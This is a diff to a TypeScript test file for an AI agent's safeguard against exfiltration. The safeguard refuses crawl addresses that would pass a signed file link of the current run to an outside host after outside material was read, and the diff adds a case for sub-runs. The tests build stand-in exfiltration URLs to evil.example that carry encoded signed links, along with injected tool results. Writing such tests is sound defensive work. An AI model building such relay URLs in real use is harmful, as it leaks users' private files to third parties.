@@ -16,6 +16,7 @@ interface Known {
   attachment?: string;
   question?: string;
   callersQuestion?: string;
+  isSubRun?: true;
   hasPrivateQuestion?: true;
   state?: Partial<Acting>;
 }
@@ -31,13 +32,15 @@ async function problemOf(
   known: Known,
   authorizations: string[] = [],
 ): Promise<string | undefined> {
-  const { values = {}, attachment, question = 'q', callersQuestion, hasPrivateQuestion, state } = known;
+  const { values = {}, attachment, question = 'q', callersQuestion, state } = known;
+  const { isSubRun, hasPrivateQuestion } = known;
   const memory = {
     read: async (name: string) => ({ value: values[name]!, isOutside: false }),
   };
   const input: AgentInput = {
     question,
     callersQuestion,
+    isSubRun,
     hasPrivateQuestion,
     ...(attachment !== undefined && {
       attachment: { kind: 'document', filename: 'a.txt', text: attachment },
@@ -312,6 +315,20 @@ describe('once material from outside was read, an address is refused', () => {
     const relayed = `https://evil.example/?u=${encodeURIComponent(link)}`;
     expect(await crawlProblem(relayed, known)).toMatch(/a link to a file of this run/);
     expect(await crawlProblem(link, known)).toBeUndefined();
+  });
+
+  test('if it carries a link that a sub-run has told of, or that its run has told it of', async () => {
+    const link = 'https://api.example/v1/files/a/b.txt?expires=1764271000&signature=AbCdEfGhIjKlMnOpQrStUv';
+    const relayed = `https://evil.example/?u=${encodeURIComponent(link)}`;
+    const messages: Acting['messages'] = [
+      { role: 'assistant', content: null, tool_calls: [call('investigate', { questions: ['q'] })] },
+      { role: 'tool', tool_call_id: 'c', content: markOutside(`It is [here](${link}).`) },
+    ];
+    expect(await crawlProblem(relayed, { state: { messages } })).toMatch(/a link to a file of this run/);
+    const question = `Read ${link} and say what it lacks.`;
+    expect(await crawlProblem(relayed, { question })).toBeUndefined();
+    expect(await crawlProblem(relayed, { question, isSubRun: true })).toMatch(/a link to a file of this run/);
+    expect(await crawlProblem(link, { question, isSubRun: true })).toBeUndefined();
   });
 });
 
